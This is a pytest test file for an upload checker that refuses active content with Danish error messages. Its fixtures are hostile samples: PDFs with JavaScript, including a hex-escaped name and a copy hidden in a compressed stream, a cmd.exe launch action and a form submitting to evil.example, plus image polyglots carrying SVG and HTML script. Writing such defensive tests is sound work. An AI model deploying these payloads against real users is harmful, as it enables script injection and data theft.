"""Uploads that would act instead of being read are refused with a Danish reason: PDFs
with JavaScript, launch or automatic actions (however their names are written or
hidden), images that are also web pages or SVGs, Office files with macros. Ordinary
files, such as a LibreOffice PDF that opens at its first page, pass."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

import pytest

from shared.errors import Invalid
from shared.uploads import DOCX, JPEG, PDF, PNG, checked_upload

SVG_SCRIPT = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.domain)</script></svg>'
HTML_SCRIPT = b"<html><body><script>fetch('/agenda/api/v1/me')</script></body></html>"


def _pdf(*objects: bytes, trailer: bytes = b"<< /Root 1 0 R >>") -> bytes:
    body = b"".join(b"%d 0 obj\n%s\nendobj\n" % (number, obj) for number, obj in enumerate(objects, start=1))
    return b"%PDF-1.7\n" + body + b"trailer\n" + trailer + b"\n%%EOF\n"


def _stream(data: bytes, extra: bytes = b"") -> bytes:
    packed = zlib.compress(data)
    return b"<< /Length %d /Filter /FlateDecode %s >>\nstream\n%s\nendstream" % (len(packed), extra, packed)


CATALOG = b"<< /Type /Catalog /Pages 2 0 R >>"
PAGES = b"<< /Type /Pages /Kids [] /Count 0 >>"


def _check(kind: str, content: bytes, name: str = "fil"):
    extension = {PDF: "pdf", PNG: "png", JPEG: "jpg", DOCX: "docx"}[kind]
    return checked_upload("file", f"{name}.{extension}", content, allowed=(kind,), max_bytes=20 * 1024 * 1024)


def _refusal(kind: str, content: bytes) -> str:
    with pytest.raises(Invalid) as refused:
        _check(kind, content)
    [message] = refused.value.errors["file"]
    return message


OK_PDFS = {
    "plain": _pdf(CATALOG, PAGES),
    "opens at its first page (LibreOffice)": _pdf(b"<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /XYZ null null 0] >>",
                                                 PAGES, b"<< /Type /Page >>"),
    "opens with a GoTo action": _pdf(b"<< /Type /Catalog /Pages 2 0 R /OpenAction 3 0 R >>", PAGES,
                                     b"<< /S /GoTo /D [2 0 R /Fit] >>"),
    "a web link": _pdf(CATALOG, PAGES, b"<< /Type /Annot /Subtype /Link /A << /S /URI /URI (https://lejre.dk) >> >>"),
}

BAD_PDFS = {
    "JavaScript on opening": _pdf(b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>",
                                  PAGES),
    "a launch action": _pdf(CATALOG, PAGES, b"<< /Type /Annot /A << /S /Launch /F (cmd.exe) >> >>"),
    "a hex-escaped name": _pdf(b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /J#61va#53cript /J#53 (x) >> >>", PAGES),
    "JavaScript in a compressed object stream": _pdf(
        CATALOG, PAGES, _stream(b"4 0 << /S /JavaScript /JS (app.alert(1)) >>", b"/Type /ObjStm /N 1 /First 4")),
    "an automatic action by reference": _pdf(b"<< /Type /Catalog /Pages 2 0 R /OpenAction 3 0 R >>", PAGES,
                                             b"<< /S /URI /URI (https://evil.example) >>"),
    "a page that acts when opened": _pdf(CATALOG, PAGES, b"<< /Type /Page /AA << /O << /S /Named /N /Print >> >> >>"),
    "an embedded file": _pdf(b"<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles 3 0 R >> >>", PAGES, b"<< >>"),
    "a form that sends data": _pdf(CATALOG, PAGES, b"<< /A << /S /SubmitForm /F (https://evil.example) >> >>"),
    "encryption (nothing can be checked)": _pdf(CATALOG, PAGES, trailer=b"<< /Root 1 0 R /Encrypt 3 0 R >>"),
}


@pytest.mark.parametrize("label", OK_PDFS)
def test_an_ordinary_pdf_passes(label):
    assert _check(PDF, OK_PDFS[label]).content_type == PDF


@pytest.mark.parametrize("label", BAD_PDFS)
def test_a_pdf_that_acts_on_its_own_is_refused_in_danish(label):
    message = _refusal(PDF, BAD_PDFS[label])
    assert message.startswith(("PDF-filen indeholder", "Filen er krypteret")), message


def _png(*chunks: tuple[bytes, bytes]) -> bytes:
    out = b"\x89PNG\r\n\x1a\n"
    for kind, data in chunks:
        out += struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    return out


PIXEL = _png((b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0)), (b"IDAT", zlib.compress(b"\x00\x00")),
             (b"IEND", b""))
JPEG_IMAGE = (b"\xff\xd8" + b"\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
              + b"\xff\xda\x00\x08\x01\x01\x00\x00\x3f\x00" + b"\x12\xff\x00\x34" + b"\xff\xd9")


def test_ordinary_images_pass():
    assert _check(PNG, PIXEL).content_type == PNG
    assert _check(JPEG, JPEG_IMAGE).content_type == JPEG


@pytest.mark.parametrize(("kind", "content"), [
    (PNG, PIXEL + SVG_SCRIPT),
    (PNG, PIXEL + HTML_SCRIPT),
    (PNG, PIXEL[:-12] + _png((b"tEXt", b"Comment\x00" + SVG_SCRIPT))[8:] + PIXEL[-12:]),
    (PNG, PIXEL[:-12] + _png((b"zTXt", b"Comment\x00\x00" + zlib.compress(HTML_SCRIPT)))[8:] + PIXEL[-12:]),
    (JPEG, JPEG_IMAGE + HTML_SCRIPT),
    (JPEG, JPEG_IMAGE[:2] + b"\xff\xfe" + struct.pack(">H", len(SVG_SCRIPT) + 2) + SVG_SCRIPT + JPEG_IMAGE[2:]),
], ids=["png+svg", "png+html", "png text chunk", "png compressed text chunk", "jpeg+html", "jpeg comment"])
def test_an_image_that_is_also_a_page_or_an_svg_is_refused_in_danish(kind, content):
    assert _refusal(kind, content).startswith("Billedet indeholder andet end et billede")


def test_a_broken_image_is_refused():
    broken = PIXEL[:19] + b"\x02" + PIXEL[20:]  # the width changed, its checksum did not
    assert _refusal(PNG, broken).startswith("Billedfilen er ufuldstændig")


def _docx(*extra: str) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name in ("[Content_Types].xml", "word/document.xml", *extra):
            archive.writestr(name, "<x/>")
    return buffer.getvalue()


def test_an_office_file_with_macros_is_refused():
    assert _check(DOCX, _docx()).content_type == DOCX
    assert _refusal(DOCX, _docx("word/vbaProject.bin")).startswith("Filen indeholder makroer")
